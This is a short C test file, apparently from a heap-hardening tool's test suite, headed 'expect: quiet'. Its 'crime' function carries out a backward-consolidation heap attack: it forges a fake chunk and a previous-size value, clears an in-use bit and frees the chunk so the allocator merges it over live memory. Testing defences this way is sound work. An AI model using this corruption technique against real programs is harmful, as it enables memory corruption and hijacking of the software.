// expect: quiet
// SPDX-License-Identifier: MIT
// Clear the in-use bit before a block and forge the size of what lies in front, to join backwards over
// live memory.

#include "../common/attack.h"

void crime(void)
{
    uintptr_t *a = claim(malloc(0x38), 0x38);
    char *b = malloc(0x28);
    char *c = malloc(0x4f8);
    a[0] = 0;
    a[1] = 0x60;
    a[2] = a[3] = (uintptr_t)a;
    poke(c, 16, 0x60);
    c[-8] = 0;
    claim(b, 0x20);
    free(c);
    for (int i = 0; i < 20; i++)
        claim_malloc(0x158, NULL, 0);
}
